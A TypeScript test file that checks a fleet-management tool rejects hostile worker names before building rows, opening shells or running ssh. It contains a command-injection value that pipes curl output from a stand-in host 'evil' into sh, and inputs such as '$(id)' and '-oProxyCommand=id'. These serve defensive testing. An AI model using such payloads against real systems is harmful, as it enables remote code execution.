import assert from 'node:assert/strict';
import {test} from 'node:test';
import {panelActs} from '../../source/commands/panel.ts';
import {ssh} from '../../source/commands/ssh.ts';
import {watchFleet} from '../../source/commands/watch.ts';
import {join} from '../../source/panel/live/join.ts';
import {good} from '../../source/panel/seen.ts';
import {isProblem} from '../../source/problem.ts';
import {someFleet} from '../executors/docker-machine/some-answers.ts';
import {hearing, sessionAt, standing} from '../panel/at-laptop.ts';
import {healthy, host, instance, machine, nameAt, now} from '../panel/seeing.ts';

/** A Name tag that anybody who may make a tag can write, in the form of a runner's machine. */
const evil = `runner-abc123def-;curl\${IFS}evil|sh;-1700000000-deadbeef`;

test('a shell command in a Name tag is no worker, and has no row', () => {
	const there = nameAt(5);
	const ec2 = {manager: undefined, otherManagers: [], instances: [instance('i-evil', evil, {keyName: evil}), instance('i-1', there)]};
	const rows = join(healthy({ec2: good(ec2, now), host: good(host([machine(there, {instanceId: 'i-1'})]), now)}), now);
	assert.ok(rows.some(({name}) => name === there));
	assert.ok(!rows.some(({instanceId}) => instanceId === 'i-evil'));
});

test('the panel opens a shell only on a machine that docker-machine has', async () => {
	const world = await standing(2);
	const session = sessionAt(world, ['status', '--fleet', someFleet.name, '--region', someFleet.region], hearing());
	const acts = panelActs(session, await watchFleet(session, someFleet), () => undefined);
	const snapshot = healthy({host: good(host([machine(nameAt(5))]), now)});
	for (const worker of [evil, nameAt(6)])
		await assert.rejects(acts.shell(worker, snapshot), (error) => isProblem(error, 'worker-not-in-store') && error.message.includes(worker));
});

test('`ssh` takes a worker only by the name of a machine, and says so before it asks anybody', async () => {
	const world = await standing(2);
	const calls = world.calls.length;
	for (const worker of ['a;id', '$(id)', 'a b', '-oProxyCommand=id', 'a\nb']) {
		const session = sessionAt(world, ['ssh', '--fleet', someFleet.name, '--region', someFleet.region], hearing());
		await assert.rejects(ssh({...session, parsed: {...session.parsed, words: [worker]}}), (error) => isProblem(error, 'usage') && error.exit === 2);
	}
	assert.equal(world.calls.length, calls);
});
